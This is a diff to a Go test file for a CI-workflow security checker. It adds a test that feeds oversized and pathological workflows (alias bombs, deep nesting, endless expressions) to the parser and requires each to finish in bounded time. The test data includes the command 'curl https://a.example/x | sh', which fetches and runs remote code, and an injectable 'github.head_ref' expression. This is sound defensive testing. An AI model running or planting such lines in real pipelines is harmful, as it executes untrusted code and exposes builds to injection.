@@ -7,6 +7,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"plimsoll/internal/advisory"
 	"plimsoll/internal/hygiene"
@@ -111,6 +112,29 @@ func TestEveryRuleIsDocumented(t *testing.T) {
 		}
 	} else if want != string(page) {
 		t.Errorf("%s is out of date: run the test with -update", file)
+	}
+}
+
+// What is hostile ends in time, and with an error where it is beyond the bounds.
+func TestHostileWorkflowsAreBounded(t *testing.T) {
+	for name, source := range map[string]string{
+		"many scanners":                sample("    - run: |\n" + strings.Repeat("        grype a --fail-on high || true\n", 7000)),
+		"many expressions":             sample("    - run: |\n" + strings.Repeat("        echo ${{ github.head_ref }}\n", 20000)),
+		"an open expression":           sample("    - run: |\n" + strings.Repeat("        echo ${{ '\n", 40000)),
+		"a script behind aliases":      "on: push\njobs:\n  a:\n    steps:\n    - &s\n      run: |\n" + strings.Repeat("        curl https://a.example/x | sh\n", 5000) + "  b:\n    steps: [" + strings.Repeat("*s, ", 4000) + "*s]\n",
+		"many steps":                   sample(strings.Repeat("    - run: a\n", 50000)),
+		"deep nesting":                 "jobs: " + strings.Repeat("[", 5000),
+		"an expression of parentheses": sample("    - if: ${{ " + strings.Repeat("(", 100000) + " }}\n      run: plimsoll gate a\n"),
+	} {
+		t.Run(name, func(t *testing.T) {
+			began := time.Now()
+			if w, err := Read("w.yml", []byte(source)); err == nil {
+				Check(w, Rules())
+			}
+			if took := time.Since(began); took > 20*time.Second {
+				t.Errorf("took %s", took)
+			}
+		})
 	}
 }
 
